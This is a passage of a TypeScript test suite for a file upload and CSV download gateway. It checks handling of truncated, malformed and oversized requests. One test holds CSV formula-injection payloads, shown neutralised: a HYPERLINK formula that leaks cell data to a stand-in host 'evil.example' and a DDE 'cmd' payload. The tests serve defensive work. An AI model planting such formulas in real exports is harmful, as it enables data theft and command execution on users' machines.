    for (let cut = 0; cut < PROBE_BODY.length; cut++) {
      const answer = await rawUpload(PROBE_BODY.subarray(0, cut));
      expect(answer.status, `cut at ${cut}`).toBe(400);
      expect(errorBody(answer.text).error.message).toBe('El formulario enviado no es válido.');
    }
    expect(calls).toHaveLength(0);
    // Each logged once (what busboy said) and audited as refused.
    const refused = logLines.filter((line) => line.includes('"upload refused"'));
    expect(refused).toHaveLength(PROBE_BODY.length);
    expect(auditEvents()).toHaveLength(PROBE_BODY.length);
    expect(new Set(auditEvents().map((e) => `${e.result} ${e.errorCode}`))).toEqual(
      new Set(['failed BAD_REQUEST']),
    );
    // Still serving.
    expect((await rawUpload(PROBE_BODY)).status).toBe(201);
  });

  it('a client that leaves mid-body, at every byte offset: audited as refused, nothing upstream, still serving', async () => {
    for (let cut = 0; cut < PROBE_BODY.length; cut++) {
      const answer = await rawUpload(PROBE_BODY.subarray(0, cut), { length: PROBE_BODY.length, leave: true });
      expect(answer.status).toBeNull();
    }
    await expect.poll(() => auditEvents().length).toBe(PROBE_BODY.length);
    expect(new Set(auditEvents().map((e) => `${e.result} ${e.errorCode}`))).toEqual(
      new Set(['failed BAD_REQUEST']),
    );
    expect(calls).toHaveLength(0);
    expect((await rawUpload(PROBE_BODY)).status).toBe(201);
  });

  it('malformed bodies: no boundary, a boundary inside a header, a header that never ends: 4xx, nothing upstream', async () => {
    const noBoundary = await rawUpload(PROBE_BODY, {
      headers: { 'content-type': 'multipart/form-data; charset=utf-8' },
    });
    expect(noBoundary.status).toBe(415);
    const withoutDelimiters = await rawUpload(Buffer.from('external_transaction_id,amount\r\nA1,10\r\n'));
    expect(withoutDelimiters.status).toBe(400);
    const boundaryInHeader = await rawUpload(
      Buffer.from(
        `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n--${BOUNDARY}\r\n` +
          `Content-Type: text/csv\r\n\r\nA1,10\r\n--${BOUNDARY}--`,
      ),
    );
    expect(boundaryInHeader.status).toBeGreaterThanOrEqual(400);
    expect(boundaryInHeader.status).toBeLessThan(500);
    const endlessHeader = await rawUpload(
      Buffer.from(
        `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\nX-Relleno: ${'a'.repeat(60_000)}`,
      ),
    );
    expect(endlessHeader.status).toBe(400);
    expect(calls).toHaveLength(0);
    expect((await rawUpload(PROBE_BODY)).status).toBe(201);
  });

  it('a CSV download: every cell a spreadsheet would run is made inert (OWASP form), the rest as the service wrote it', async () => {
    const response = await get('/formulas', adminToken);
    expect(response.status).toBe(200);
    const text = await response.text();
    expect(text).toBe(
      'id,pagador,monto\r\n' +
        '1,"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Ver detalle"")",-100.50\r\n' +
        "2,\"'+cmd|' /C calc'!A0\",20.00\r\n" +
        '3,"\'@SUM(1+1)",30.00\r\n',
    );
    expect(response.headers.get('content-disposition')).toContain('filename="pagos.csv"');
  });

  it('a download whose upstream resets mid-file ends that response only', async () => {
    await expect(get('/cortado', adminToken).then((r) => r.text())).rejects.toThrow();
    await expect.poll(() => auditEvents().at(-1)?.errorCode).toBe('DOWNLOAD_INTERRUPTED');
    const response = await get('/prueba/1/csv', adminToken);
    expect(response.status).toBe(200);
    await response.text();
  });
});

/** The server side of each connection, to read how much of a request the gateway read. */
const serverSockets: Socket[] = [];
subscribe('http.server.request.start', (message) => {
  serverSockets.push((message as { socket: Socket }).socket);
});

describe(
  'refused before the body: answered at once, the body never read in full',
  { timeout: 120_000 },
  () => {
    const TWENTY_MB = 20 * 1024 * 1024;

    it('a 20 MB anonymous upload is answered 401 before 1 MB is read, and its connection closed', async () => {
      serverSockets.length = 0;
      const answer = await rawUpload(Buffer.alloc(0), {
        token: null,
        length: TWENTY_MB,
        stream: { total: TWENTY_MB },
      });
      expect(answer.status).toBe(401);
      expect(errorBody(answer.text).error.code).toBe('UNAUTHENTICATED');
      expect(serverSockets).toHaveLength(1);
      expect(serverSockets[0]!.destroyed).toBe(true);
      expect(serverSockets[0]!.bytesRead).toBeLessThan(1024 * 1024);
      expect(answer.bytesSent).toBeLessThan(TWENTY_MB);
    });

    it('chunked, anonymous: the same', async () => {
      serverSockets.length = 0;
      const answer = await rawUpload(Buffer.alloc(0), {
        token: null,
        headers: { 'content-length': undefined, 'transfer-encoding': 'chunked' },
        stream: { total: TWENTY_MB, chunked: true },
      });
      expect(answer.status).toBe(401);
      expect(serverSockets[0]!.bytesRead).toBeLessThan(1024 * 1024);
    });

    it('an operator’s upload declaring 20 MB over a 64 KB limit: 413 before 1 MB is read', async () => {
      serverSockets.length = 0;
      const answer = await rawUpload(Buffer.alloc(0), { length: TWENTY_MB, stream: { total: TWENTY_MB } });
      expect(answer.status).toBe(413);
      expect(serverSockets[0]!.bytesRead).toBeLessThan(1024 * 1024);
      expect(calls).toHaveLength(0);
    });
  },
);
